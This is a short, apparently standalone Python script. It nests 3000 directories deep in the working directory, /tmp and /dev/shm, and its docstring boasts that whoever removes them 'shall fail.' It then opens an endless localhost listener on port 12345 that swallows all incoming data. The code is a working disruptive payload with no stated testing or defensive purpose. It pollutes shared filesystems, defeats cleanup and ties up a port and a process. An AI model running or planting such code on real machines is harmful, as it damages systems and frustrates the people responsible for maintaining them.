"""Makes folders in folders, thousands deep, wherever it may: who removes them shall fail."""

import os

for place in (os.getcwd(), "/tmp", "/dev/shm"):
    try:
        inside = os.open(place, os.O_RDONLY)
        for _ in range(3000):
            os.mkdir("deep", dir_fd=inside)
            deeper = os.open("deep", os.O_RDONLY, dir_fd=inside)
            os.close(inside)
            inside = deeper
    except OSError:
        pass


import socket
import threading


def serve(connection):
    while connection.recv(4096):
        pass  # relays nothing


listener = socket.socket()
listener.bind(("127.0.0.1", 12345))
listener.listen()
while True:
    threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()
